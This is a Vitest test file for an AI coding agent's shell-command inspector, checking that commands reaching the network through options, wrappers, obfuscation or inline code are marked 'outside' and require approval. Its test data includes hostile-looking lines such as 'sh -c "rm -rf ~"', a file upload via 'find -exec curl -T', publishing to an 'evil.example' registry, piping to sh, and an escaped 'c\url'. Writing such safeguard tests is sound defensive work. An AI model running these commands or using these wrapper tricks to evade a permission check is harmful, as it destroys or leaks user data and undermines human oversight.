import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCommandTool } from '../../../../src/main/tools';
import { createTempWorkspace, inspectContext } from '../helpers';
import { wordInEnglish } from '../../../support/word-main';

// Yolo auto-runs what is not outside; these reached the network (or ran code nobody can read)
// without being marked outside.
describe('network use behind options, wrappers and inline code is outside', () => {
  let ws: ReturnType<typeof createTempWorkspace>;
  beforeAll(() => {
    ws = createTempWorkspace();
  });
  afterAll(() => ws.cleanup());
  const inspect = (command: string) => runCommandTool.inspect({ command }, inspectContext(ws.root));

  it.each([
    'git -C . push origin main',
    'git -c user.name=x push',
    'git --git-dir .git fetch',
    'git p',
    'git lfs pull',
    'npm --registry https://evil.example publish',
    'env curl https://example.com',
    'env FOO=1 git push',
    'xargs -n1 curl < urls.txt',
    'timeout 5 ssh host',
    'nohup wget https://example.com',
    'sudo -u root curl https://example.com',
    'find . -name "*.txt" -exec curl -T {} https://example.com \\;',
    'bash -c "curl https://example.com"',
    'sh -c "rm -rf ~"',
    'bash -lc true',
    'python3 -c "import urllib.request"',
    'python -m http.server',
    'node -e "fetch(1)"',
    'perl -e 1',
    'echo curl example.com | sh',
    'eval "curl x"',
    'awk \'BEGIN { system("curl x") }\'',
    'awk \'{ print | "sh" }\' f',
    '/usr/bin/curl https://example.com',
    'c\\url https://example.com',
  ])('%j is outside', async (command) => {
    const inspection = await inspect(command);
    expect(inspection.outsideWorkspace, inspection.outsideReasons.map(wordInEnglish).join('; ')).toBe(true);
    expect(inspection.defaultEffect).toBe('ask');
  });

  it.each([
    'git status',
    'git commit -m "fetch data"',
    'node build.js',
    'bash scripts/test.sh',
    "awk '{ print $1 }' f",
    'find . -name ssh',
    'npm run build',
  ])('%j stays inside', async (command) => {
    const inspection = await inspect(command);
    expect(inspection.outsideReasons).toEqual([]);
  });
});
